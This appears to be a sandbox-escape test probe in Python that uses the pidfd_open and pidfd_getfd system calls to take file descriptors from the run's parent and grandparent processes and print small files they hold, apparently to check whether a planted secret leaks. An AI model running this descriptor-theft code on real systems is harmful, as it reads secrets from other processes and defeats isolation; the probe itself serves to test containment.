"""Take descriptors of the run's parents by pidfd_getfd, and read them.

canary: secret, descriptor(pidfd)
control: through
"""
import ctypes
import os
import stat
import time

call = ctypes.CDLL(None, use_errno=True).syscall
PIDFD_OPEN, PIDFD_GETFD = 434, 438
pid = os.getppid()
for _ in range(3):
    handle = call(PIDFD_OPEN, pid, 0)
    print(handle, os.strerror(ctypes.get_errno()))
    for number in range(200 if handle >= 0 else 0):
        taken = call(PIDFD_GETFD, handle, number, 0)
        if taken < 0:
            continue
        try:
            facts = os.fstat(taken)
            if stat.S_ISREG(facts.st_mode) and facts.st_size < 200:
                print(os.pread(taken, 200, 0))
        except OSError as error:
            print(error)
        os.close(taken)
    try:
        with open(f"/proc/{pid}/stat") as file:
            pid = int(file.read().rpartition(") ")[2].split()[1])
    except (OSError, ValueError) as error:
        print(error)
        break
time.sleep(0.3)
